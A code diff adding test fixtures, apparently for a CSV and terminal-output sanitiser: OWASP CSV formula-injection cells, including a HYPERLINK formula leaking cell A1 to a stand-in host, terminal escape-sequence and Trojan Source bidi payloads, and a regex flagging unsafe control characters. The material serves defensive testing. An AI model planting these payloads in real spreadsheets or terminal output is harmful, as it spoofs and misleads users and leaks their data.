@@ -330,3 +330,34 @@ export function yamlAliasBomb(): string {
 
 /** Cells a spreadsheet program would run as formulas (OWASP CSV injection triggers). */
 export const FORMULA_TITLES = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"];
+
+// ---------------------------------------------------------------------------------------------
+// Unusual paths, wide rows, terminal injection (helper H)
+
+/** A CSV whose first row has `columns` cells: a wrong delimiter or a hostile file, never a header. */
+export function wideHeaderCsv(columns: number): string {
+  const cells: string[] = [];
+  for (let i = 0; i < columns; i++) cells.push(`c${i}`);
+  return `${cells.join(",")}\n${cells.map(() => "x").join(",")}\n`;
+}
+
+/**
+ * Cell text that drives a terminal: clear the screen, set the window title (OSC 0, ended by BEL), an
+ * OSC 8 hyperlink, red text, a backspace, a CR that overwrites the line, and the bidi override of the
+ * "Trojan Source" attacks (U+202E) and an isolate (U+2066).
+ */
+export const TERMINAL_ATTACKS: readonly string[] = [
+  "\x1b[2J\x1b[H",
+  "\x1b]0;pwned\x07",
+  "\x1b]8;;http://evil.test/\x1b\\click\x1b]8;;\x1b\\",
+  "\x1b[31mred\x1b[0m",
+  "ab\bc",
+  "fake\rerror: all good",
+  "txt.\u202eexe",
+  "\u2066isolate\u2069",
+  "\x9b31m",
+];
+
+/** Every character that must not reach a terminal raw. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
+export const TERMINAL_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
